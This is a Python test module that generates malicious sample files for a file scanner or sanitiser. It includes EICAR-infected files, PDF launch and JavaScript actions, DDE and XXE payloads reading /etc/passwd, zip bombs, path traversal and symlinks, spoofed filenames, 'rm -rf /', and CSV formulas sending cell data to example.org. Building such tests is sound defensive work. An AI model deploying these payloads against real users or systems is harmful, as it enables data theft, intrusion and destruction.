"""Files that mean harm, made as they are asked for: name, and what is in it."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from functools import partial
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name

from tests.support.good_files import (
    box,
    film,
    full,
    heic,
    mp3,
    odt,
    package,
    parts_of,
    pdf,
    picture,
    png_with,
    samsung,
    saved,
    sheet,
    wav,
    word,
)
from tests.support.scanner import EICAR

PAGE = b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"
DRAWING = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
PROGRAM = b"MZ\x90\0\3\0\0\0\4\0\0\0\xff\xff" + bytes(400) + b"PE\0\0"
ELF = b"\x7fELF\2\1\1" + bytes(400)
SHELL = b"#!/bin/sh\nrm -rf /\n"
TURNED = "\u202e"
Files = Iterator[tuple[str, bytes]]


def hostile_files(gigabytes: float) -> Files:
    """Return each file with its name; what packages unpack to is said in gigabytes."""
    yield from infected()
    yield from pdfs()
    yield from under_other_names()
    yield from two_in_one()
    yield from bombs(gigabytes)
    yield from documents()
    yield from pictures()
    yield from films_and_sounds()
    yield from words()
    yield from cut_off()
    yield from strange_names()


def infected() -> Files:
    """What a scanner knows."""
    packed = package({"inside.com": EICAR})
    yield "eicar.com", EICAR
    yield "eicar.txt", EICAR
    yield "eicar.csv", EICAR
    yield "letter.txt", b"Dear Ben,\r\n" * 2000 + EICAR
    yield "packed.zip", packed
    yield "packed.docx", packed
    yield "packed twice.docx", package({"inside.zip": packed})
    yield "in a document.docx", package({**parts_of(word()), "word/media/image1.png": EICAR})
    yield "in a letter.odt", odt(parts={"Pictures/one.png": EICAR})
    yield "in a workbook.xlsx", package({**parts_of(sheet()), "xl/media/image1.png": EICAR})
    yield "in a remark.pdf", saved(pdf()).replace(b"%%EOF", b"%" + EICAR + b"\n%%EOF")
    yield "in a note.wav", wav() + b"LIST" + struct.pack("<I", 68) + EICAR


def changed(change: Callable[[pikepdf.Pdf], Any]) -> bytes:
    """Return a PDF in which something was changed."""
    made = pdf(2)
    change(made)
    return saved(made)


def pdfs() -> Files:
    """PDFs that run, fetch or hold something, or are locked."""
    script = Dictionary(S=Name.JavaScript, JS="app.alert(1)")
    launch = Dictionary(S=Name.Launch, Win=Dictionary(F="cmd.exe", P="/c calc"))
    for name, action in {
        "script": script,
        "launch": launch,
        "launch of a file": Dictionary(S=Name.Launch, F="calc.exe"),
        "form sent": Dictionary(S=Name.SubmitForm, F="http://example.org"),
        "form filled": Dictionary(S=Name.ImportData, F="//example.org/a.fdf"),
        "other file": Dictionary(S=Name.GoToR, F="//example.org/a.pdf", D=Array([0, Name.Fit])),
        "file inside": Dictionary(S=Name.GoToE, D=Array([0, Name.Fit])),
        "film": Dictionary(S=Name.Rendition, OP=0),
        "layers": Dictionary(S=Name.SetOCGState, State=Array([])),
        "own address": Dictionary(S=Name.URI, URI="file:///c:/windows/system32/calc.exe"),
        "script as an address": Dictionary(S=Name.URI, URI="javascript:alert(1)"),
        "menu": Dictionary(S=Name.Named, N=Name("/SaveAs")),
        "after another": Dictionary(S=Name.GoTo, D=Array([0, Name.Fit]), Next=Array([script])),
    }.items():
        yield f"{name}.pdf", changed(partial(_opens_with, action))
        link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=action)
        yield (
            f"{name} in a link.pdf",
            saved(pdf(Annots=Array([link])), object_stream_mode=pikepdf.ObjectStreamMode.generate),
        )
    yield "on a page.pdf", saved(pdf(AA=Dictionary(O=script)))
    yield "on closing.pdf", changed(lambda made: setattr(made.Root, "AA", Dictionary(WC=script)))
    names = Dictionary(JavaScript=Dictionary(Names=Array(["a", script])))
    yield "by name.pdf", changed(lambda made: setattr(made.Root, "Names", names))
    yield (
        "by another spelling.pdf",
        changed(lambda made: setattr(made.Root, "OpenAction", script))
        .replace(b"/JavaScript", b"/J#61vaScript")
        .replace(b"/JS", b"/#4AS"),
    )
    yield "nobody names it.pdf", changed(lambda made: setattr(made.trailer, "Kept", script))
    yield "file inside too.pdf", changed(_attach)
    yield "collection.pdf", changed(lambda made: setattr(made.Root, "Collection", Dictionary()))
    for sort in ("FileAttachment", "RichMedia", "Screen", "Movie", "3D", "Sound"):
        note = Dictionary(Type=Name.Annot, Subtype=Name(f"/{sort}"), Rect=Array([0, 0, 9, 9]))
        yield f"{sort}.pdf", saved(pdf(Annots=Array([note])))
    form = Dictionary(Fields=Array([]), XFA="<xdp/>")
    yield "XFA.pdf", changed(lambda made: setattr(made.Root, "AcroForm", form))
    yield "bytes elsewhere.pdf", changed(_bytes_elsewhere)
    yield "locked.pdf", saved(pdf(), encryption=pikepdf.Encryption(owner="a", user="b"))
    yield "half locked.pdf", saved(pdf(), encryption=pikepdf.Encryption(owner="a", user=""))
    yield "no pages.pdf", saved(pikepdf.new())
    yield "words.pdf", b"%PDF-1.7\nDear Ben\n%%EOF\n"
    yield (
        "deep.pdf",
        saved(pdf()).replace(
            b"/Type /Catalog", b"/A" + b"[" * 9000 + b"]" * 9000 + b"/Type /Catalog"
        ),
    )


def _opens_with(action: Dictionary, made: pikepdf.Pdf) -> None:
    made.Root.OpenAction = action


def _attach(made: pikepdf.Pdf) -> None:
    made.attachments["tool.exe"] = pikepdf.AttachedFileSpec(made, PROGRAM, filename="tool.exe")


def _bytes_elsewhere(made: pikepdf.Pdf) -> None:
    made.pages[0].obj.Contents["/F"] = pikepdf.String("//example.org/a")


def under_other_names() -> Files:
    """Pages, drawings, programs and packages that say that they are something else."""
    contents = {
        "page": PAGE, "drawing": DRAWING, "program": PROGRAM, "elf": ELF, "shell": SHELL,
        "package": package({"a.txt": b"words"}), "old document": b"\xd0\xcf\x11\xe0" + bytes(600),
        "rich text": b"{\\rtf1 {\\object}}",
    }  # fmt: skip
    for what, content in contents.items():
        for ending in ("jpg", "pdf", "txt", "docx", "mp4"):
            yield f"{what}.{ending}", content
    for ending in "html htm svg exe js vbs bat docm xlsm xls doc zip gif hta lnk url jar".split():
        yield f"by its own name.{ending}", contents.get("page", PAGE)
    yield "photo.png", picture("JPEG")
    yield "photo.jpg", picture("PNG")
    yield "photo.heic", picture("JPEG")
    yield "letter.odt", word()
    yield "letter.docx", sheet()
    yield "letter.xlsx", odt()


def two_in_one() -> Files:
    """What is of two kinds at once."""
    photo, drawn, letter = picture("JPEG"), picture("PNG"), saved(pdf())
    packed, page = package({"a.js": b"alert(1)"}), PAGE
    yield "late.pdf", b"x" * 100 + letter
    yield "page and pdf.pdf", page + letter
    yield "gif and pdf.pdf", b"GIF89a" + bytes(20) + letter
    yield "package behind.pdf", letter + packed
    yield "page behind.pdf", letter + page
    yield "package in it.pdf", letter.replace(b"%%EOF", packed + b"\n%%EOF")
    for name, first in {"jpg": photo, "png": drawn, "tiff": picture("TIFF"), "mp3": mp3(notes=False),
                        "wav": wav(), "mp4": film(b"isom", b"vide"), "heic": heic()}.items():  # fmt: skip
        yield f"package behind.{name}", first + packed
        yield f"page behind.{name}", first + page
        yield f"pdf behind.{name}", first + letter
    yield "page before the end.jpg", photo[:-2] + page + photo[-2:]
    yield "page in a remark.jpg", picture("JPEG", comment=PAGE)
    yield "pdf in a remark.jpg", picture("JPEG", comment=b"%PDF-1.7\n")
    yield "program behind a second picture.jpg", photo + photo + PROGRAM
    yield "package behind a block.jpg", samsung(photo + packed)
    yield "program behind zeros.jpg", photo + bytes(3000) + PROGRAM
    yield "page in words.png", png_with((b"tEXt", b"Comment\0" + PAGE))
    yield "program in room.mp4", film(b"isom", b"vide") + box(b"prog", PROGRAM)
    yield "package in room.mp4", film(b"isom", b"vide") + box(b"free", packed)
    yield "program first.docx", PROGRAM + word()
    yield "something behind.docx", word() + PROGRAM
    yield "page in words.txt", b"Dear Ben <SCRIPT src=//example.org></script>"
    yield "page as a table.csv", b"a,b\r\n1,<iframe src=x>\r\n"


def bombs(gigabytes: float) -> Files:
    """Packages and pictures that are small, and large once they are unpacked."""
    for name, parts in {
        "docx": parts_of(word()),
        "xlsx": parts_of(sheet()),
        "odt": parts_of(odt()),
    }.items():
        yield f"bomb.{name}", _with_zeros(parts, "media/image1.png", gigabytes)
        yield f"bomb in words.{name}", _with_zeros(parts, "settings/more.xml", gigabytes)
    inner = _with_zeros({}, "a.txt", 0.2)
    yield "bomb in a bomb.docx", package({**parts_of(word()), "word/a.zip": inner})
    lied = bytearray(_with_zeros(parts_of(word()), "word/media/image1.png", 0.2))
    for at in [found for found in range(len(lied)) if lied[found : found + 4] == b"PK\1\2"]:
        lied[at + 24 : at + 28] = struct.pack(
            "<I", min(100, *struct.unpack("<I", lied[at + 24 : at + 28]))
        )
    yield "bomb that lies.docx", bytes(lied)
    many = {f"word/{number}.xml": b"<a/>" for number in range(3000)}
    yield "too many parts.docx", package({**parts_of(word()), **many})
    note = b"Comment\0\0" + zlib.compress(bytes(200_000_000), 9)
    yield "bomb in a note.png", png_with((b"zTXt", note))
    yield (
        "bomb of colours.png",
        png_with((b"iCCP", b"a\0\0" + zlib.compress(bytes(400_000_000), 9))),
    )
    content = zlib.compress(bytes(10), 9)
    yield "objects without end.pdf", saved(pdf()).replace(b"%%EOF", content + b"%%EO")


def _with_zeros(parts: dict[str, bytes | str], name: str, gigabytes: float) -> bytes:
    """Return a package with a part of zeros, written piece by piece."""
    made, piece = io.BytesIO(), bytes(1024 * 1024)
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as into:
        for other, content in parts.items():
            into.writestr(other, content)
        with into.open(zipfile.ZipInfo(name), "w", force_zip64=gigabytes > 2) as part:
            for _ in range(int(gigabytes * 1024)):
                part.write(piece)
    return made.getvalue()


def documents() -> Files:  # noqa: PLR0915  one after the other
    """Documents with macros, templates, definitions, paths and whatever else may lie in them."""
    letter, book = parts_of(word()), parts_of(sheet())
    relations = str(letter["word/_rels/document.xml.rels"], "utf-8")  # type: ignore[arg-type]
    types = str(letter["[Content_Types].xml"], "utf-8")  # type: ignore[arg-type]
    body = str(letter["word/document.xml"], "utf-8")  # type: ignore[arg-type]

    def related(kind: str, target: str, mode: str = ' TargetMode="External"') -> bytes:
        office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
        one = f'<Relationship Id="r99" Type="{office}/{kind}" Target="{target}"{mode}/>'
        return package(
            {
                **letter,
                "word/_rels/document.xml.rels": relations.replace(
                    "</Relationships>", f"{one}</Relationships>"
                ),
            }
        )

    def with_words(words: str) -> bytes:
        return package(
            {**letter, "word/document.xml": body.replace("<w:body>", f"<w:body>{words}")}
        )

    yield "macro.docx", package({**letter, "word/vbaProject.bin": b"\xd0\xcf\x11\xe0"})
    macro = "application/vnd.ms-word.document.macroEnabled.main+xml"
    main = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    yield (
        "macro by its type.docx",
        package({**letter, "[Content_Types].xml": types.replace(main, macro)}),
    )
    yield "template.docx", related("attachedTemplate", "http://example.org/a.dotm")
    yield "template here.docx", related("attachedTemplate", "a.dotm", "")
    yield "picture elsewhere.docx", related("image", "http://example.org/a.png")
    yield "picture on a share.docx", related("image", "\\\\example.org\\a.png")
    yield "page inside.docx", related("aFChunk", "a.htm", "")
    yield "object.docx", related("oleObject", "http://example.org/a")
    yield "frame.docx", related("frame", "http://example.org/a")
    yield "link to a file.docx", related("hyperlink", "file:///c:/windows/calc.exe")
    yield "held.docx", package({**letter, "word/embeddings/a.xlsx": sheet()})
    yield "control.docx", package({**letter, "word/activeX/activeX1.xml": b"<a/>"})
    yield "program.docx", package({**letter, "word/media/tool.exe": PROGRAM})
    define = '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    declared = body.replace("<w:document", f"{define}<w:document", 1)
    yield "definition.docx", package({**letter, "word/document.xml": declared})
    yield (
        "definition in other letters.docx",
        package(
            {
                **letter,
                "word/a.xml": f'<?xml version="1.0" encoding="utf-16"?>{define}<a>&x;</a>'.encode(
                    "utf-16"
                ),
            }
        ),
    )
    laughs = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    laugh = f'<!DOCTYPE a [<!ENTITY a0 "ha">{laughs}]><a>&a9;</a>'
    yield "laughs.docx", package({**letter, "word/a.xml": laugh})
    yield "laughs.odt", odt(parts={"styles.xml": laugh.encode()})
    field = "<w:p><w:r><w:fldChar w:fldCharType='begin'/></w:r>{}<w:r><w:fldChar w:fldCharType='end'/></w:r></w:p>"
    run = "<w:r><w:instrText>{}</w:instrText></w:r>"
    yield "DDE.docx", with_words(field.format(run.format(' DDEAUTO c:\\\\a "/k calc"')))
    yield (
        "DDE cut up.docx",
        with_words(field.format(run.format(" DDE") + run.format('AUTO c:\\\\a "x"'))),
    )
    yield "DDE at once.docx", with_words('<w:p><w:fldSimple w:instr="DDE a b"/></w:p>')
    yield (
        "fetched.docx",
        with_words(field.format(run.format(' INCLUDEPICTURE "http://example.org/a"'))),
    )
    for path in (
        "../../evil.xml",
        "/etc/evil.xml",
        "word\\..\\evil.xml",
        "c:/evil.xml",
        "word//a.xml",
    ):
        yield f"path {path.replace('/', '_')}.docx", package({**letter, path: b"<a/>"})
    link = zipfile.ZipInfo("word/link.xml")
    link.external_attr = 0o120777 << 16
    yield "link.docx", _with(letter, link, b"/etc/passwd")
    yield "twice.docx", package({**letter, "WORD/DOCUMENT.XML": b"<a/>"})
    remarked = io.BytesIO(word())
    with zipfile.ZipFile(remarked, "a") as into:
        into.comment = PAGE
    yield "remark.docx", remarked.getvalue()
    yield "locked.docx", _flagged(word())
    yield "macro sheet.xlsx", package({**book, "xl/macrosheets/sheet1.xml": b"<a/>"})
    yield "elsewhere.xlsx", package({**book, "xl/externalLinks/externalLink1.xml": b"<a/>"})
    yield "connection.xlsx", package({**book, "xl/connections.xml": b"<a/>"})
    yield "program called.xlsx", sheet("<c><f>cmd|'/c calc'!A1</f></c>")
    yield "fetched.xlsx", sheet('<c><f>WEBSERVICE("http://example.org")</f></c>')
    yield "registered.xlsx", sheet('<c><f>REGISTER("a","b")</f></c>')
    yield "macro.odt", odt(parts={"Basic/Standard/Module1.xml": b"<a/>"})
    yield "script.odt", odt(parts={"Scripts/python/a.py": b"import os"})
    yield "event.odt", odt("<script:event-listener script:event-name='a'/>")
    yield "object.odt", odt("<draw:object xlink:href='./Object 1'/>")
    yield "picture elsewhere.odt", odt("<draw:image xlink:href='http://example.org/a.png'/>")
    yield "picture on a share.odt", odt("<draw:image xlink:href='//example.org/a.png'/>")
    yield "link to a file.odt", odt("<text:a xlink:href='file:///c:/calc.exe'>a</text:a>")
    yield "DDE.odt", odt("<text:dde-connection-decl/>")


def _with(parts: dict[str, bytes | str], one: zipfile.ZipInfo, content: bytes) -> bytes:
    made = io.BytesIO(package(parts))
    with zipfile.ZipFile(made, "a") as into:
        into.writestr(one, content)
    return made.getvalue()


def _flagged(packed: bytes) -> bytes:
    """Return a package of which the first part says that it is encrypted."""
    at = packed.index(b"PK\1\2") + 8
    return packed[:6] + b"\1\0" + packed[8:at] + b"\1\0" + packed[at + 2 :]


def pictures() -> Files:
    """Pictures that are too large to be true, or not sound."""
    large = struct.pack(">II5B", 50_000, 50_000, 8, 2, 0, 0, 0)
    drawn = picture("PNG", (64, 64))
    head = b"IHDR" + large
    yield "50000.png", drawn[:12] + head + struct.pack(">I", zlib.crc32(head)) + drawn[33:]
    photo = bytearray(picture("JPEG"))
    at = photo.index(b"\xff\xc0") + 5
    photo[at : at + 4] = struct.pack(">HH", 50_000, 50_000)
    yield "50000.jpg", bytes(photo)
    tiff = bytearray(picture("TIFF", (64, 64)))
    listed = struct.unpack_from("<I", tiff, 4)[0]
    for number in range(struct.unpack_from("<H", tiff, listed)[0]):
        entry = listed + 2 + 12 * number
        if struct.unpack_from("<H", tiff, entry)[0] in (256, 257):
            struct.pack_into("<HII", tiff, entry + 2, 4, 1, 50_000)
    yield "50000.tif", bytes(tiff)
    yield "wrong sum.png", drawn[:40] + bytes([drawn[40] ^ 1]) + drawn[41:]
    yield "no picture.jpg", b"\xff\xd8\xff\xe0\0\x10JFIF\0\1\1\0\0\1\0\1\0\0\xff\xd9"
    yield "goes round.tif", b"II*\0\x08\0\0\0\0\0\x08\0\0\0"
    yield "no picture.png", drawn[:33] + drawn[-12:]


def films_and_sounds() -> Files:
    """Films and recordings that fetch something, or are not what they say."""
    yield "elsewhere.mp4", film(b"isom", b"vide", elsewhere=True)
    yield "film.m4a", film(b"M4A ", b"vide", b"soun")
    yield "picture.mp4", heic()
    yield "film.heic", film(b"isom", b"vide")
    yield "quick.mp4", film(b"qt  ", b"vide")
    yield "nothing shown.mp4", film(b"isom", b"text")
    yield "beyond its end.heic", heic(beyond=1)
    yield "elsewhere.heic", heic(elsewhere=1)
    yield "no picture.heic", heic(sort=b"soun")
    yield "too long a box.mp4", film(b"isom", b"vide") + box(b"free")[:4]
    yield (
        "boxes in boxes.mp4",
        box(b"ftyp", b"isom", bytes(4))
        + box(b"moov", full(b"mvhd", bytes(96)), box(b"trak", b"\0\0\0\4free"))
        + box(b"mdat"),
    )
    yield "unknown sound.wav", wav(codec=0x1234)
    yield "too long.wav", wav() + bytes(40)
    yield "one frame.mp3", mp3(1)
    yield "notes alone.mp3", b"ID3\x03\0\0\0\0\0\x0a" + bytes(10)


FORMULAS = (
    '=WEBSERVICE("http://example.org/?"&A1)',
    '+HYPERLINK("http://example.org/?"&A1,"Open")',
    '-5+WEBSERVICE("http://example.org/?"&A1)',
    "-5+'\\\\example.org\\[a.xlsx]b'!A1",
    "@SUM(1+1)",
    "-Ann",
    "+A1",
    "\t=A1",
    "\r\n =A1",
    "\uff1dA1",
)
"""Cells that a spreadsheet works out as it opens a table."""


def words() -> Files:
    """Words that are none."""
    yield "noughts.txt", b"words\0words"
    yield "bytes.txt", bytes(range(1, 256))
    yield "controls.txt", b"words \x1b[2J words"
    yield "calls a program.csv", b"a,b\r\n1,=cmd|'/c calc'!A1\r\n"
    yield "calls it otherwise.csv", b"a,b\r\n1,\"@SUM(1+1)*cmd|'/c calc'!A1\"\r\n"
    for number, cell in enumerate(FORMULAS):
        yield (
            f"formula {number}.csv",
            f'a,b\r\n1,"{cell.replace(chr(34), chr(34) * 2)}"\r\n'.encode(),
        )
    yield "parted otherwise.csv", b'a;b\r\nEwa;=WEBSERVICE("http://example.org/?"&A1)\r\n'
    yield "parted by tabs.csv", b'a\tb\r\nEwa\t=HYPERLINK("http://example.org/?"&A1)\r\n'
    yield "parted as it says.csv", b"sep=~\r\na~b\r\nEwa~=A1\r\n"
    yield "drawing.txt", b"\n  " + DRAWING
    yield "markup.txt", b'<?xml version="1.0"?><a/>'


def cut_off() -> Files:
    """Good files without their ends, and files of nothing."""
    whole = {
        "jpg": picture("JPEG"), "png": picture("PNG"), "tif": picture("TIFF"), "heic": heic(),
        "mp4": film(b"isom", b"vide"), "mov": film(b"qt  ", b"vide"), "m4a": film(b"M4A ", b"soun"),
        "mp3": mp3(), "wav": wav(), "docx": word(), "xlsx": sheet(), "odt": odt(), "pdf": saved(pdf()),
    }  # fmt: skip
    for ending, content in whole.items():
        yield f"half.{ending}", content[: len(content) // 2]
        yield f"almost whole.{ending}", content[:-7]
        yield f"empty.{ending}", b""
        yield f"zeros.{ending}", bytes(1000)
    yield "empty.txt", b""
    yield "blank.txt", b" \r\n\t"
    yield "empty.csv", b"\xef\xbb\xbf"


def strange_names() -> Files:
    """Names that mean to mislead, with what they hide."""
    yield f"photo{TURNED}gpj.exe", PROGRAM
    yield f"letter{TURNED}fdp.html", PAGE
    yield "../../../etc/passwd", b"root:x:0:0"
    yield "..\\..\\tool.bat", SHELL
    yield "photo.jpg.exe", PROGRAM
    yield "photo.jpg\0.exe", PROGRAM
    yield "page.html\0.jpg", PAGE
    yield f"{'a' * 300}.exe", PROGRAM
    yield f"{'a' * 300}", PAGE
    yield "photo.jpg.", PAGE
    yield ".jpg", PAGE
    yield "", PAGE
